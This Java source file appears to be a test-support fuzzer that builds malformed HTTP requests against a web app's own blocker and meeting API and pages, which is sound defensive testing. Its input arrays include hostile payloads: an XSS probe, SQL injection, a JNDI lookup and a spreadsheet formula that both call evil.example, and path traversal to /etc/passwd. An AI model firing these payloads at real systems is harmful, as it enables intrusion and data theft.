package io.eteam.web;

import io.eteam.support.RawHttp.Framing;
import io.eteam.support.RawHttp.Request;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.function.Supplier;

/// Makes malformed and odd requests over every route of the API and the pages, from one seed:
/// a well-formed request for the route, then a few of its parts replaced by something odd (a
/// field's type or value, the body's JSON, its framing on the wire, the method, the content
/// type, a path parameter, the query, who signs it).
final class BadRequests {

    /// Who sends a request: nobody, or a person by bearer token (API) or session cookie (pages).
    record Identity(String name, String token, String session, String csrf) {
    }

    /// One generated request and what it is, for a failure message.
    record Case(int number, String route, String who, String what, Request request) {

        /// What kind of oddity most likely broke it: the body's framing, a multipart body, or else the route.
        String kind() {
            if (request.framing() != Framing.LENGTH && request.framing() != Framing.NONE) {
                return request.framing().name().toLowerCase();
            }
            var type = request.header("Content-Type");
            return type != null && type.startsWith("multipart/") ? "multipart" : route;
        }

        String describe() {
            var body = new String(request.body(), StandardCharsets.UTF_8);
            return "#" + number + " " + request.method() + " " + shorten(request.target(), 160) + " (route " + route + ", as " + who
                    + ", " + what + ", framing " + request.framing() + ", Content-Type " + request.header("Content-Type")
                    + ", body " + body.length() + " chars: " + shorten(body, 200) + ")";
        }
    }

    private enum Body { NONE, JSON, CSV, FORM }

    private record Route(String method, String path, Body body, boolean page, Supplier<Map<String, String>> fields) {

        String name() {
            return method + " " + path;
        }
    }

    private static final String[] METHODS = {"GET", "POST", "PUT", "PATCH", "DELETE", "HEAD", "OPTIONS", "TRACE", "BREW", "get"};

    /// Raw JSON values of every type and size, some of them barely JSON.
    private static final String[] ODD_JSON = {"null", "true", "false", "0", "-1", "1", "4", "5", "60", "61", "2147483647",
            "2147483648", "-2147483649", "9223372036854775807", "9223372036854775808", "-9223372036854775809",
            "99999999999999999999999999999", "1e309", "-1e309", "1e-400", "1.5", "-0.0", "1E2", "0x10", "NaN", "Infinity",
            "[]", "[1]", "[\"a\", null]", "{}", "{\"a\": 1}", "\"\"", "\"\\u0000\"", "\"\\ud800\"", "\"x\\udc00\"",
            "\"\\ud876\\udc00\"", "\"\\ud83d\\ude80\"", "\"\\u202eevil\"", "\"a\\u200bb\"", "\"\\ufeff\"", "\"\\x41\"", "\"\\u12\"",
            "'single'", "unquoted", "\"" + "9".repeat(5000) + "\"", "9".repeat(5000), "[".repeat(3000) + "]".repeat(3000),
            "{\"a\":".repeat(1500) + "1" + "}".repeat(1500), "[".repeat(100), "\"unterminated"};

    /// Text people might type, and text nobody should: control characters, broken and
    /// supplementary Unicode, bidirectional overrides, formulas, markup, sizes at and over limits.
    private static final String[] ODD_TEXT = {"", " ", "\t", "\r\n", "\u0000", "a\u0000b", "\u0007bell", "\u001b[31mred",
            "\ud800", "\udc00", "x\ud800y", "\ud876\udc00", "\ud876\udc00".repeat(201), "\ud83d\ude80".repeat(200),
            "\u202eevil.exe", "a\u200bb", "\ufeff", "\u00a0", "é", "e\u0301", "日本語", "Ünïcödé", "<script>alert(1)</script>",
            "'; DROP TABLE blocker; --", "${jndi:ldap://evil.example/a}", "%s%n", "{{7*7}}", "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
            "+1", "-1", "@SUM(A1)", "\tTAB", "\rCR", "x".repeat(32), "x".repeat(33), "x".repeat(200), "x".repeat(201),
            "x".repeat(4000), "x".repeat(4001), "y".repeat(40_000), "Let's take this offline", "Ship offline mode in Brazil",
            "TBD", "later", "Legal approves today", "null", "true", "0", "-0", "1e309"};

    private static final String[] HANDLES = {"chair", "vp-music", "vp-legal", "staff", "gone", "spare", "nobody", "Chair",
            " vp-music ", "a", "a".repeat(32), "a".repeat(33), "a".repeat(500), "vp_music", "vp-music\u0000", "\ud800", "\ud876\udc00",
            "\u202echair", ""};

    private static final String[] DATES = {"next", "NEXT", "last", "2026-03-10", "2026-03-17", "2026-03-03", "2026-03-11", "2026-04-07",
            "2027-03-09", "2027-03-16", "2028-02-29", "9999-12-28", "+10000-01-04", "+999999999-12-31", "-999999999-01-01",
            "+999999999-12-28", "-999999999-01-02",
            "+999999999-01-01", "0000-01-04", "0001-01-02", "1970-01-06", "2026-02-30", "2026-13-01", "2026-3-10", "2026-W11",
            "2026-W99", "20260310", "2026-03-10T13:00", " 2026-03-10", "today", "", "%00", "%ED%A0%80", "%F0%AD%A0%80",
            "..", "%2e%2e", "x".repeat(300)};

    private static final String[] WEEKS = {"2026-W10", "2026-W01", "2026-W53", "2020-W53", "2026-W00", "2026-W99", "0000-W01",
            "9999-W52", "99999-W01", "+999999999-W01", "2026-W1", "2026W10", "2026-w10", "", " ", "%00", "2026-W10 "};

    private static final String[] IDS = {"0", "-1", "abc", "1.5", "1e3", "0x10", "99999999999999999999", "9223372036854775807",
            "9223372036854775808", "%00", "%ED%A0%80", "%F0%AD%A0%80", "%20", "1%0A", "%2e%2e", "1;x=y", "+1", "01", "1_000", "Ⅻ", "٣"};

    private static final String[] ODD_TARGETS = {"/api/v1//blockers", "/api/v1/blockers/", "/api/v1/blockers/1/resolve/x",
            "/api/v1/blockers;jsessionid=x", "/api/v1/blockers/1%2F2", "/api/v1/%2e%2e/v1/health", "/api/v1/meetings//agenda",
            "/api/v1/people/%2F", "/api/v1/BLOCKERS", "/api/v1/health?x=%ZZ", "/api/v1/blockers?status=%", "*",
            "http://127.0.0.1/api/v1/health", "/api/v1/reports/sla?week=2026-W10&week=2026-W11", "/api/v1/anything",
            "/meetings//agenda", "/static/..%2F..%2Fpom.xml", "/static/%00", "/webjars/../../etc/passwd", "/webjars/htmx.org/x",
            "/static/eteam.css", "/reports/sla?week=%ff", "/blockers/", "/%ED%A0%80", "/api/v1/meetings/next/events"};

    private static final String[] CONTENT_TYPES = {null, "text/plain", "application/xml", "application/x-www-form-urlencoded",
            "multipart/form-data", "multipart/form-data; boundary=", "multipart/form-data; boundary=zzz", "application/json; charset=latin1",
            "application/json; charset=nope", "*/*", "application/json;;;", "\u00e9/\u00e9", "text/csv; charset=utf-16"};

    private final Random random;
    private final Identity[] api;
    private final Identity[] pages;
    private final List<String> ids;
    private final List<Route> routes = new ArrayList<>();

    /// `ids` are blockers that exist; the caller adds the ones created as the run goes.
    BadRequests(long seed, Identity[] api, Identity[] pages, List<String> ids) {
        this.random = new Random(seed);
        this.api = api;
        this.pages = pages;
        this.ids = ids;
        routeTable();
    }

    private void routeTable() {
        api("GET", "/api/v1/health", Body.NONE, null);
        api("GET", "/api/v1/me", Body.NONE, null);
        api("GET", "/api/v1/people", Body.NONE, null);
        api("POST", "/api/v1/people", Body.JSON, () -> fields("handle", text(pick("new-" + random.nextInt(1_000_000), pick(HANDLES))),
                "name", text("New Person"), "role", text(pick("vp", "member", "chair", "VP", "admin")), "team", text("Music")));
        api("POST", "/api/v1/people/{handle}/token", Body.NONE, null);
        api("DELETE", "/api/v1/people/{handle}", Body.NONE, null);
        api("GET", "/api/v1/blockers", Body.NONE, null);
        api("POST", "/api/v1/blockers", Body.JSON, this::raise);
        api("POST", "/api/v1/blockers/import", Body.CSV, null);
        api("GET", "/api/v1/blockers/{id}", Body.NONE, null);
        api("PATCH", "/api/v1/blockers/{id}", Body.JSON, () -> pickFields(raise(), 1 + random.nextInt(3)));
        api("POST", "/api/v1/blockers/{id}/resolve", Body.JSON, this::resolve);
        api("POST", "/api/v1/blockers/{id}/withdraw", Body.JSON, () -> fields("reason", text(pick("We unblocked ourselves", "later"))));
        api("GET", "/api/v1/reports/sla", Body.NONE, null);
        api("GET", "/api/v1/calendar", Body.NONE, null);
        api("PUT", "/api/v1/calendar", Body.JSON, () -> pickFields(calendar(), 1 + random.nextInt(3)));
        api("PUT", "/api/v1/calendar/holidays/{date}", Body.JSON, () -> fields("name", text("Founders' day")));
        api("DELETE", "/api/v1/calendar/holidays/{date}", Body.NONE, null);
        api("GET", "/api/v1/meetings/{date}", Body.NONE, null);
        api("POST", "/api/v1/meetings/{date}/start", Body.NONE, null);
        api("POST", "/api/v1/meetings/{date}/end", Body.NONE, null);
        api("POST", "/api/v1/meetings/{date}/attendees", Body.JSON, () -> fields("handle", text(pick(HANDLES))));
        api("GET", "/api/v1/meetings/{date}/agenda", Body.NONE, null);
        api("PUT", "/api/v1/meetings/{date}/agenda/order", Body.JSON, () -> fields("blocker_ids", "[" + pickId() + ", " + pickId() + "]"));
        api("GET", "/api/v1/meetings/{date}/events", Body.NONE, null);
        api("POST", "/api/v1/feed-token", Body.NONE, null);
        api("DELETE", "/api/v1/feed-token", Body.NONE, null);
        api("GET", "/api/v1/meetings/{date}/minutes", Body.NONE, null);
        api("GET", "/api/v1/actions", Body.NONE, null);
        api("POST", "/api/v1/actions/{id}/done", Body.JSON, () -> fields("note", text(pick("Signed on Monday", pick(ODD_TEXT)))));
        api("POST", "/api/v1/actions/{id}/blocker", Body.JSON, () -> fields("impact", text(pick("high", "low", "", "huge"))));
        api("GET", "/api/v1/webhooks", Body.NONE, null);
        api("POST", "/api/v1/webhooks", Body.JSON, () -> fields("url", text(pick("http://127.0.0.1:9/hook", "ftp://x/y", "", pick(ODD_TEXT))),
                "events", pick("[\"blocker.raised\"]", "[\"person.added\"]", "\"digest\"", "[]", "[1]"),
                "format", text(pick("json", "slack", "teams", "xml", ""))));
        api("DELETE", "/api/v1/webhooks/{id}", Body.NONE, null);
        page("GET", "/login", Body.NONE, null);
        page("POST", "/login", Body.FORM, () -> fields("token", pick(pick(api).token(), "nope", "", "x".repeat(5000), "\ud800")));
        page("POST", "/logout", Body.FORM, () -> fields());
        page("GET", "/", Body.NONE, null);
        page("POST", "/blockers", Body.FORM, () -> fields("title", pick("Label deal blocks Brazil", pick(ODD_TEXT)),
                "kind", pick("blocked", "misaligned", "off-track", "BLOCKED", ""), "impact", pick("high", "low", "", "huge"),
                "blocking", pick("", "vp-legal", pick(HANDLES)), "detail", pick("", pick(ODD_TEXT))));
        page("GET", "/meetings/{date}/agenda", Body.NONE, null);
        page("POST", "/meetings/{date}/agenda/order", Body.FORM, () -> fields("order", pickId() + ", " + pickId()));
        page("GET", "/meetings/{date}", Body.NONE, null);
        page("POST", "/meetings/{date}/start", Body.FORM, () -> fields());
        page("POST", "/meetings/{date}/end", Body.FORM, () -> fields());
        page("POST", "/meetings/{date}/attendees", Body.FORM, () -> fields("handle", pick("", pick(HANDLES))));
        page("POST", "/meetings/{date}/blockers/{id}/resolve", Body.FORM, () -> fields("decision", pick("Fund it from Q3", pick(ODD_TEXT)),
                "owner", pick("vp-legal", pick(HANDLES)), "due", pick("", "2026-04-01", pick(DATES)), "rationale", pick("", pick(ODD_TEXT))));
        page("GET", "/meetings/{date}/minutes", Body.NONE, null);
        page("POST", "/actions/{id}/done", Body.FORM, () -> fields("note", pick("", "Signed", pick(ODD_TEXT))));
        page("POST", "/actions/{id}/blocker", Body.FORM, () -> fields());
        page("GET", "/reports/sla", Body.NONE, null);
        page("GET", "/static/{file}", Body.NONE, null);
        page("GET", "/webjars/htmx.org/2.0.8/dist/htmx.min.js", Body.NONE, null);
    }

    private void api(String method, String path, Body body, Supplier<Map<String, String>> fields) {
        routes.add(new Route(method, path, body, false, fields));
    }

    private void page(String method, String path, Body body, Supplier<Map<String, String>> fields) {
        routes.add(new Route(method, path, body, true, fields));
    }

    private Map<String, String> raise() {
        return fields("title", text(pick("Label deal blocks Brazil", "Two roadmaps for search")), "detail", text("Since March."),
                "kind", text(pick("blocked", "misaligned", "off-track")), "impact", text(pick("high", "medium", "low")),
                "blocking", text(pick("vp-legal", "chair")), "minutes", pick("5", "10", "60"),
                "repeats", pick(pickId(), "null", "0", "-7", "\"12\""));
    }

    private Map<String, String> resolve() {
        return fields("decision", text(pick("Fund it from Q3", "Legal approves today", "Let's take this offline")),
                "owner", text(pick("vp-legal", "vp-music", "chair")), "due", text(pick("2026-04-01", "2026-03-10")),
                "rationale", text("Cheaper than waiting."));
    }

    private Map<String, String> calendar() {
        return fields("zone", text(pick("Europe/Stockholm", "UTC", "America/New_York", "Asia/Kolkata", "Mars/Olympus", "+01:00", "Z")),
                "working_days", text(pick("MON-FRI", "SUN-THU", "MON,WED,FRI", "TUE", "FRI-MON", "MON--FRI", "MON-TUE-WED", "MONDAY", ",", " , ", "MON,", "")),
                "working_hours", text(pick("09:00-17:00", "08:30-16:30", "00:00-23:59", "17:00-09:00", "24:00-25:00", "9-5", "09:00-09:00")),
                "holidays", text(pick("SE", "none", "US", "XX", "GB-ENG", "se", "")),
                "target_days", pick("2.5", "1", "0", "-1", "100", "100.01", "2.555", "1e309", "\"2.5\""),
                "meeting_day", text(pick("TUE", "tuesday", "SUN", "Tues", "")),
                "meeting_time", text(pick("13:00", "09:30", "13:00:30", "25:00", "23:59", "1pm")),
                "meeting_minutes", pick("180", "60", "0", "-1", "1440", "1441", "100000", "2147483648"));
    }

    /// The next request, numbered `n`.
    Case next(int n) {
        var what = new ArrayList<String>();
        Route route;
        String target;
        String method;
        if (random.nextInt(40) == 0) {
            route = pick(routes);
            target = pick(ODD_TARGETS);
            what.add("odd target");
        } else {
            route = pick(routes);
            target = expand(route, what) + query(route, what);
        }
        method = route.method();
        if (random.nextInt(12) == 0) {
            method = pick(METHODS);
            what.add("method " + method);
        }
        // Signing out with one of the run's sessions would end it for the rest of the run.
        var who = route.path().equals("/logout") ? pages[0] : route.page() ? pick(pages) : pick(api);
        var request = Request.of(method, target);
        if (route.page()) {
            signPage(request, who, what);
        } else {
            signApi(request, who, what);
        }
        var built = frame(request, body(request, route, who, what), route, what);
        return new Case(n, route.name(), who.name(), what.isEmpty() ? "well formed" : String.join(", ", what), built);
    }

    private String expand(Route route, List<String> what) {
        var path = route.path();
        if (path.contains("{id}")) {
            String id = random.nextInt(3) > 0 ? pickId() : pick(IDS);
            path = path.replace("{id}", id);
        }
        if (path.contains("{date}")) {
            String date = random.nextInt(3) == 0 ? pick("next", "2026-03-10", "2026-03-17") : pick(DATES);
            path = path.replace("{date}", date.startsWith("%") || date.equals("..") ? date : encode(date));
            what.add("date " + shorten(date, 20));
        }
        if (path.contains("{handle}")) {
            path = path.replace("{handle}", encode(pick("spare", "nobody", "a".repeat(33), "\ud800", "\ud876\udc00", "%00", "Chair", "x".repeat(600)
            )).replace("%2500", "%00"));
        }
        if (path.contains("{file}")) {
            path = path.replace("{file}", pick("eteam.css", "eteam.js", "nope.css", "%2e%2e", "..%2Feteam.css", "%00", "a".repeat(300)));
        }
        return path;
    }

    private String query(Route route, List<String> what) {
        var params = new ArrayList<String>();
        switch (route.path()) {
            case "/api/v1/blockers" -> {
                if (route.method().equals("GET")) {
                    maybe(params, "status", pick("open", "resolved", "withdrawn", "all", "", "OPEN", "closed", "\u0000", "x".repeat(3000)));
                    maybe(params, "raised_by", pick(HANDLES));
                }
            }
            case "/api/v1/reports/sla", "/reports/sla" -> {
                int kind = random.nextInt(5);
                if (kind == 0) {
                    params.add("from=%2B999999999-01-01&to=%2B999999999-12-31");
                } else if (kind < 3) {
                    maybe(params, "week", pick(WEEKS));
                } else {
                    maybe(params, "from", pick(pick(DATES), "2026-01-01", "+999999999-01-01", "-999999999-01-01", "0000-01-01"));
                    maybe(params, "to", pick(pick(DATES), "2026-03-31", "+999999999-12-31", "-999999999-12-31", "9999-12-31"));
                }
                maybe(params, "format", pick("json", "csv", "md", "xml", "", "CSV"));
            }
            default -> {
                if (random.nextInt(10) == 0) {
                    params.add(encode(pick(ODD_TEXT)) + "=" + encode(pick(ODD_TEXT)));
                }
            }
        }
        if (params.isEmpty()) {
            return "";
        }
        what.add("query");
        return "?" + String.join("&", params);
    }

    private void maybe(List<String> params, String name, String value) {
        if (random.nextInt(3) > 0) {
            params.add(name + "=" + (random.nextInt(8) == 0 ? value : encode(value)));
        }
    }

    private void signApi(Request request, Identity who, List<String> what) {
        if (who.token() != null) {
            request.header("Authorization", random.nextInt(25) == 0 ? pick("Bearer", "Basic " + who.token(), "bearer  " + who.token() + " ",
                    "Bearer " + who.token() + "x".repeat(5000), "Bearer \u00e9") : "Bearer " + who.token());
        } else if (who.session() != null) {
            request.header("Cookie", "eteam_session=" + who.session());
            if (random.nextInt(5) > 0) {
                request.header("X-CSRF-Token", who.csrf());
            }
        }
        if (random.nextInt(20) == 0) {
            request.header("Accept", "text/event-stream");
            what.add("accepts an event stream");
        }
    }

    private void signPage(Request request, Identity who, List<String> what) {
        if (who.session() != null) {
            request.header("Cookie", "eteam_session=" + who.session());
        } else if (random.nextInt(10) == 0) {
            request.header("Cookie", "eteam_session=" + pick("", "x".repeat(200), "\u00e9", "a;b", "%00"));
            what.add("odd cookie");
        }
        if (random.nextInt(2) == 0) {
            request.header("Accept", "text/html");
        }
        if (random.nextInt(15) == 0) {
            request.header(pick("Origin", "Sec-Fetch-Site", "HX-Request"), pick("http://evil.example", "cross-site", "true", ":::", "null"));
            what.add("odd origin");
        }
    }

    private byte[] body(Request request, Route route, Identity who, List<String> what) {
        return switch (route.body()) {
            case NONE -> {
                if (random.nextInt(8) == 0) {
                    what.add("unexpected body");
                    yield bodyOf(request, pick("{}", "x", pick(ODD_JSON)), pick("application/json", "text/plain"));
                }
                yield new byte[0];
            }
            case JSON -> json(request, route, what);
            case CSV -> csv(request, what);
            case FORM -> form(request, route, who, what);
        };
    }

    private byte[] json(Request request, Route route, List<String> what) {
        var fields = route.fields().get();
        int kind = random.nextInt(10);
        String body;
        if (kind < 5) {
            for (int i = random.nextInt(3); i >= 0; i--) {
                mutate(fields, what);
            }
            body = render(fields);
        } else if (kind < 7) {
            body = render(fields);
            what.add("valid JSON");
        } else if (kind < 8) {
            body = pick(ODD_JSON);
            what.add("body is odd JSON");
        } else if (kind < 9) {
            var text = render(fields);
            body = text.substring(0, random.nextInt(text.length()));
            what.add("JSON cut short");
        } else {
            what.add("broken UTF-8");
            return bodyOf(request, brokenUtf8(render(fields)), contentType("application/json", what));
        }
        return bodyOf(request, body, contentType("application/json", what));
    }

    private void mutate(Map<String, String> fields, List<String> what) {
        var names = new ArrayList<>(fields.keySet());
        int kind = random.nextInt(6);
        if (names.isEmpty() || kind == 0) {
            var name = pick("color", "", "\ud800", "TITLE", "id", "status", "__proto__");
            fields.put(name, pick(ODD_JSON));
            what.add("unknown field " + shorten(name, 10));
            return;
        }
        var name = pick(names);
        if (kind == 1) {
            fields.remove(name);
            what.add("no " + name);
        } else if (kind < 4) {
            fields.put(name, text(pick(ODD_TEXT)));
            what.add(name + " odd text");
        } else {
            fields.put(name, pick(ODD_JSON));
            what.add(name + " odd JSON");
        }
    }

    private byte[] csv(Request request, List<String> what) {
        var csv = new StringBuilder(random.nextInt(10) == 0 ? "title,kind\n" : "title,kind,impact,raised_by,raised_at,resolved_at,decision,owner\n");
        for (int rows = 1 + random.nextInt(3); rows > 0; rows--) {
            var cells = new ArrayList<>(random.nextBoolean()
                    ? List.of("Label deal", "blocked", "high", "vp-music", "2026-03-02T10:00:00Z", "", "", "")
                    : List.of("\"Quoted, title\"", "off-track", "", "chair", "2026-03-02T09:00:00+01:00", "2026-03-04T13:00:59.999999999+01:00",
                            "Fund it from Q3", "vp-legal"));
            for (int odd = random.nextInt(3); odd > 0; odd--) {
                int at = random.nextInt(cells.size());
                cells.set(at, switch (at) {
                    case 4, 5 -> pick("2026-03-02T10:00", "+999999999-01-01T00:00:00Z", "-999999999-01-01T00:00:00Z", "0000-01-01T00:00:00Z",
                            "2099-01-01T00:00:00Z", "2026-02-30T10:00:00Z", "2026-03-01T10:00:00Z", "2026-03-02T13:00:59.999999999Z",
                            "1970-01-01T00:00:00Z", "yesterday", "");
                    case 3, 7 -> csvCell(pick(HANDLES));
                    default -> csvCell(pick(ODD_TEXT));
                });
            }
            if (random.nextInt(8) == 0) {
                cells.remove(cells.size() - 1);
            }
            csv.append(String.join(",", cells)).append(pick("\n", "\r\n"));
        }
        if (random.nextInt(10) == 0) {
            csv.append("\"unclosed,blocked\n");
            what.add("unclosed quote");
        }
        var body = csv.toString();
        if (random.nextInt(10) == 0) {
            what.add("broken UTF-8");
            return bodyOf(request, brokenUtf8(body), contentType("text/csv", what));
        }
        what.add("CSV");
        return bodyOf(request, (random.nextInt(10) == 0 ? "\ufeff" : "") + body, contentType("text/csv", what));
    }

    private byte[] form(Request request, Route route, Identity who, List<String> what) {
        var fields = route.fields().get();
        if (who.csrf() != null && random.nextInt(6) > 0) {
            fields.put("csrf", who.csrf());
        } else if (random.nextBoolean()) {
            fields.put("csrf", pick("", "wrong", "\ud800", "x".repeat(5000)));
            what.add("bad csrf");
        }
        int kind = random.nextInt(10);
        if (kind < 6) {
            var text = new StringBuilder();
            fields.forEach((k, v) -> text.append(text.isEmpty() ? "" : "&").append(encode(k)).append('=').append(encode(v == null ? "" : v)));
            what.add("form");
            return bodyOf(request, text.toString(), contentType("application/x-www-form-urlencoded", what));
        } else if (kind < 8) {
            what.add("multipart");
            return bodyOf(request, multipart(fields, "b0undary", true), "multipart/form-data; boundary=b0undary");
        } else if (kind < 9) {
            var text = multipart(fields, "b0undary", false);
            what.add("broken multipart");
            return bodyOf(request, text, pick("multipart/form-data; boundary=b0undary", "multipart/form-data; boundary=other",
                    "multipart/form-data", "multipart/form-data; boundary=" + "b".repeat(200)));
        } else {
            what.add("odd form");
            return bodyOf(request, pick("csrf=%ZZ&title=%", "&&&===", "title=" + "%ED%A0%80", "=x", "title=a&title=b", "%FF%FE=1",
                    pick(ODD_JSON)), contentType("application/x-www-form-urlencoded", what));
        }
    }

    private String multipart(Map<String, String> fields, String boundary, boolean wellFormed) {
        var out = new StringBuilder();
        fields.forEach((k, v) -> out.append("--").append(boundary).append("\r\n")
                .append("Content-Disposition: form-data; name=\"").append(k).append("\"\r\n\r\n").append(v).append("\r\n"));
        if (wellFormed) {
            return out.append("--").append(boundary).append("--\r\n").toString();
        }
        return switch (random.nextInt(5)) {
            case 0 -> out.toString();
            case 1 -> out.substring(0, random.nextInt(out.length() + 1));
            case 2 -> "--" + boundary + "\r\nContent-Disposition: form-data\r\n\r\nx\r\n--" + boundary + "--\r\n";
            case 3 -> "--" + boundary + "\r\nContent-Disposition: form-data; name=\"title\"; filename=\"../../x\"\r\nContent-Type: \u00e9\r\n\r\n"
                    + "x".repeat(random.nextInt(70_000)) + "\r\n--" + boundary + "--\r\n";
            default -> "no boundary here at all";
        };
    }

    private String contentType(String right, List<String> what) {
        if (random.nextInt(8) == 0) {
            what.add("odd Content-Type");
            return pick(CONTENT_TYPES);
        }
        return right;
    }

    private static byte[] bodyOf(Request request, String body, String contentType) {
        return bodyOf(request, body.getBytes(StandardCharsets.UTF_8), contentType);
    }

    private static byte[] bodyOf(Request request, byte[] body, String contentType) {
        if (contentType != null) {
            request.header("Content-Type", contentType);
        }
        return body;
    }

    private Request frame(Request request, byte[] body, Route route, List<String> what) {
        int kind = random.nextInt(20);
        Framing framing;
        if (body.length == 0 && route.body() == Body.NONE) {
            framing = kind < 2 ? Framing.CHUNKED : Framing.NONE;
        } else if (kind < 14) {
            framing = Framing.LENGTH;
        } else {
            framing = pick(Framing.TRUNCATED, Framing.CHUNKED, Framing.BAD_CHUNK_SIZE, Framing.NO_LAST_CHUNK, Framing.NONE);
        }
        if (framing != Framing.LENGTH && framing != Framing.NONE) {
            what.add(framing.name().toLowerCase().replace('_', ' '));
        }
        return request.body(body, framing);
    }

    private static byte[] brokenUtf8(String text) {
        var bytes = text.getBytes(StandardCharsets.UTF_8);
        var out = new byte[bytes.length + 3];
        int at = bytes.length / 2;
        System.arraycopy(bytes, 0, out, 0, at);
        out[at] = (byte) 0xED;
        out[at + 1] = (byte) 0xA0;
        out[at + 2] = (byte) 0x80;
        System.arraycopy(bytes, at, out, at + 3, bytes.length - at);
        return out;
    }

    private String pickId() {
        return ids.isEmpty() || random.nextInt(8) == 0 ? pick(IDS) : ids.get(random.nextInt(ids.size()));
    }

    private static String render(Map<String, String> fields) {
        var out = new StringBuilder("{");
        fields.forEach((k, v) -> out.append(out.length() == 1 ? "" : ", ").append(text(k)).append(": ").append(v));
        return out.append('}').toString();
    }

    /// `s` as a JSON string; a lone surrogate is written as its escape, since UTF-8 cannot carry it.
    static String text(String s) {
        var out = new StringBuilder("\"");
        for (int i = 0; i < s.length(); i++) {
            char c = s.charAt(i);
            boolean pair = Character.isHighSurrogate(c) && i + 1 < s.length() && Character.isLowSurrogate(s.charAt(i + 1));
            if (pair) {
                out.append(c).append(s.charAt(++i));
            } else if (c == '"' || c == '\\') {
                out.append('\\').append(c);
            } else if (c < 0x20 || Character.isSurrogate(c)) {
                out.append(String.format("\\u%04x", (int) c));
            } else {
                out.append(c);
            }
        }
        return out.append('"').toString();
    }

    private static String csvCell(String s) {
        return "\"" + s.replace("\"", "\"\"") + "\"";
    }

    private static Map<String, String> fields(String... pairs) {
        var map = new LinkedHashMap<String, String>();
        for (int i = 0; i < pairs.length; i += 2) {
            map.put(pairs[i], pairs[i + 1]);
        }
        return map;
    }

    private Map<String, String> pickFields(Map<String, String> all, int n) {
        var names = new ArrayList<>(all.keySet());
        var picked = new LinkedHashMap<String, String>();
        for (int i = 0; i < n; i++) {
            var name = pick(names);
            picked.put(name, all.get(name));
        }
        return picked;
    }

    private static String encode(String s) {
        return URLEncoder.encode(s, StandardCharsets.UTF_8);
    }

    @SafeVarargs
    private <T> T pick(T... values) {
        return values[random.nextInt(values.length)];
    }

    private <T> T pick(List<T> values) {
        return values.get(random.nextInt(values.size()));
    }

    static String shorten(String s, int max) {
        var printable = s.replace("\r", "\\r").replace("\n", "\\n");
        return printable.length() <= max ? printable : printable.substring(0, max) + "…(" + s.length() + " chars)";
    }
}
